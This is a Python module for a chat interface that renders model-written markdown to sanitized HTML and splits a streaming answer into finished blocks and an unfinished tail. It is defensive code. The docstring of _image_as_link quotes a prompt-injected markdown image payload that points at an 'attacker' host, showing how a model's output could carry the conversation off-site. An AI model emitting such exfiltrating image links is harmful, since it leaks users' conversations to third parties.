"""Markdown to sanitized HTML, and the splitter that renders an answer while it streams.

A streaming answer is shown as finished blocks (rendered once, appended) plus an
unfinished tail (escaped text). Block boundaries depend only on the text, so a
listener that attaches at any offset computes the same split the page shows.
"""

from __future__ import annotations

import re
from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from markupsafe import Markup, escape
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="hl-")

_TAGS = {
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "s",
    "del",
    "code",
    "pre",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
    "div",
    "button",
}
_ATTRIBUTES = {
    "a": {"href", "title", "class"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
    "span": {"class"},
    "div": {"class"},
    "code": {"class"},
    "button": {"class", "type", "aria-label"},
}


def _fence(self, tokens, idx, options, env) -> str:
    """Fenced code: Pygments classes, a language label and a copy button."""
    token = tokens[idx]
    language = token.info.strip().split(" ")[0][:30] if token.info else ""
    try:
        code = highlight(token.content, get_lexer_by_name(language), _FORMATTER) if language else None
    except ClassNotFound:
        code = None
    if code is None:
        code = str(escape(token.content))
    label = f'<span class="code-lang">{escape(language)}</span>' if language else '<span class="code-lang"></span>'
    return (
        f'<div class="code">{label}'
        f'<button class="copy" type="button" aria-label="Copy code">Copy</button>'
        f"<pre><code>{code}</code></pre></div>\n"
    )


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    # Raw HTML in model output is shown as text, never interpreted; nh3 below is a second fence.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
    md.add_render_rule("fence", _fence)
    md.add_render_rule("code_block", _fence)
    md.add_render_rule("image", _image_as_link)
    for cell in ("th_open", "td_open"):
        md.add_render_rule(cell, _aligned_cell)
    return md


def _image_as_link(self, tokens, idx, options, env) -> str:
    """An image in model output becomes a link to it. Loaded by the browser, its URL could carry the
    conversation off-site without a click (a prompt-injected `![](https://attacker/?d=…)`)."""
    token = tokens[idx]
    src = token.attrGet("src") or ""
    label = self.renderInlineAsText(token.children or [], options, env) or src
    opened = sum(1 if t.type == "link_open" else -1 for t in tokens[:idx] if t.type in ("link_open", "link_close"))
    if opened > 0:  # already inside a link: its words are enough (a link cannot hold a link)
        return str(escape(label))
    return f'<a href="{escape(src)}" class="image-link">{escape(label)}</a>'


def _aligned_cell(self, tokens, idx, options, env) -> str:
    """Table alignment as a class (align-left…): the CSP blocks style= attributes."""
    token = tokens[idx]
    style = token.attrs.pop("style", "") or ""
    if style.startswith("text-align:"):
        token.attrSet("class", "align-" + style.split(":", 1)[1])
    return self.renderToken(tokens, idx, options, env)


def sanitize(html: str) -> str:
    return nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        link_rel="noopener noreferrer",
        url_schemes={"http", "https", "mailto"},
    )


def render_markdown(text: str) -> Markup:
    """The whole message, as the page and the final stream event show it."""
    return Markup(sanitize(_markdown().render(text)))


_LINK_REFERENCE = re.compile(r"^ {0,3}\[[^\]\n]+\]:", re.MULTILINE)


def renders_by_blocks(text: str) -> bool:
    """Is the whole render of `text` its blocks' renders put end to end? Yes, but for link reference
    definitions (`[id]: url`), the one markdown construct that reaches from one block into another."""
    return _LINK_REFERENCE.search(text) is None


def block_starts(text: str) -> list[int]:
    """Character offsets where each top-level markdown block of `text` begins."""
    lines = text.splitlines(keepends=True)
    line_offsets = [0]
    for line in lines:
        line_offsets.append(line_offsets[-1] + len(line))
    starts = []
    for token in _markdown().parse(text):
        if token.level == 0 and token.map and token.nesting >= 0:
            starts.append(line_offsets[token.map[0]])
    return starts


class Splitter:
    """Cuts a growing answer into finished blocks (rendered once) and an unfinished tail.

    Feed it the deltas as they come. Only the unfinished region is re-parsed, and
    only when a newline arrived (no block can end without one), so the cost per
    flush stays small however long the answer grows.
    """

    def __init__(self, text: str = ""):
        self.tail = ""  # the text after the last finished block
        if text:
            self.feed(text)

    def feed(self, delta: str) -> list[str]:
        """Add `delta`; return the blocks it finished, as sanitized HTML."""
        self.tail += delta
        if "\n" not in delta:
            return []
        # Only complete lines decide the split, so it depends on the text alone,
        # not on how it was cut into deltas (a listener attaching later agrees).
        starts = block_starts(self.tail[: self.tail.rindex("\n") + 1])
        if len(starts) < 2:
            return []
        # All blocks but the last are finished: a later line can still extend the last one.
        blocks = [str(render_markdown(self.tail[start:end])) for start, end in zip(starts, starts[1:], strict=False)]
        self.tail = self.tail[starts[-1] :]
        return blocks
